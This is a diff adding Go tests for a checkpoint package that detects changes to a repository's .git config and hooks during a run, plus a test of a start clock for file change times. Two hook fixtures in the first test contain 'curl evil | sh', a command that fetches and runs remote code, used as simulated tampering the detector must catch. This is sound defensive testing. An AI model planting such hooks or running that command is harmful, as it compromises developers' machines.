@@ -2,7 +2,10 @@ package checkpoint_test
 
 import (
 	"fmt"
+	"os"
+	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -125,4 +128,93 @@ func dropConfig[R any](t *testing.T, rows []R, path func(R) string) []R {
 		t.Errorf(".git/config, written since, is not listed")
 	}
 	return out
+}
+
+// TestGitControlByContent: with the digests of the .git directory's
+// config and hooks recorded at the start, a run's diff lists those whose
+// content changed, and not one written just before the start (a script's
+// `git init`, `git config` right before `keel run`), which change times
+// within the clock's slack cannot tell apart.
+func TestGitControlByContent(t *testing.T) {
+	dir := repo(t, map[string]string{"a.txt": "a\n"})
+	write(t, dir, ".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
+	write(t, dir, ".git/hooks/pre-push.sample", "#!/bin/sh\n")
+	commit, _, err := checkpoint.Start(t.Context(), dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	start, err := checkpoint.GitControl(t.Context(), dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if start["config"] == "" || start["hooks/pre-commit"] == "" || start["hooks/pre-push.sample"] != "" {
+		t.Fatalf("GitControl = %v: want config and hooks/pre-commit, no sample", start)
+	}
+	// Every file of .git is "written since" by its change time.
+	since := time.Now().Add(-time.Hour)
+	list := func() map[string]string {
+		t.Helper()
+		changes, err := checkpoint.DiffFrom(t.Context(), dir, checkpoint.Base{Commit: commit, Since: since, Control: start}, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := map[string]string{}
+		for _, c := range changes {
+			got[c.Path] = string(c.Status)
+		}
+		return got
+	}
+	if got := list(); len(got) != 0 {
+		t.Errorf("nothing changed since the start; the diff lists %v", got)
+	}
+	f, err := os.OpenFile(filepath.Join(dir, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := f.WriteString("[core]\n\thooksPath = .h\n"); err != nil {
+		t.Fatal(err)
+	}
+	f.Close()
+	write(t, dir, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
+	write(t, dir, ".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n")
+	want := map[string]string{".git/config": "M", ".git/hooks/pre-commit": "M", ".git/hooks/post-checkout": "A"}
+	if d := cmp.Diff(want, list()); d != "" {
+		t.Errorf("after the run's writes (-want +got):\n%s", d)
+	}
+}
+
+// TestStartClockSeparates: a file written just before StartClock has a
+// change time before what it returns, one written just after, not: no
+// slack, at any speed.
+func TestStartClockSeparates(t *testing.T) {
+	dir := repo(t, map[string]string{"a.txt": "a\n"})
+	for i := range 20 {
+		before := filepath.Join(dir, fmt.Sprintf("before-%d", i))
+		write(t, dir, filepath.Base(before), "x\n")
+		at, ok := checkpoint.StartClock(dir)
+		if !ok {
+			t.Fatal("StartClock: no clock")
+		}
+		write(t, dir, fmt.Sprintf("after-%d", i), "x\n")
+		for name, wantBefore := range map[string]bool{before: true, filepath.Join(dir, fmt.Sprintf("after-%d", i)): false} {
+			fi, err := os.Stat(name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			st := fi.Sys().(*syscall.Stat_t)
+			ct := time.Unix(st.Ctim.Sec, st.Ctim.Nsec)
+			if ct.Before(at) != wantBefore {
+				t.Errorf("%s: change time %s, start clock %s: before = %v", filepath.Base(name), ct.Format(time.RFC3339Nano), at.Format(time.RFC3339Nano), !wantBefore)
+			}
+		}
+	}
+	entries, err := os.ReadDir(filepath.Join(dir, ".git"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range entries {
+		if strings.HasPrefix(e.Name(), "keel-clock-") {
+			t.Errorf("StartClock left %s in .git", e.Name())
+		}
+	}
 }
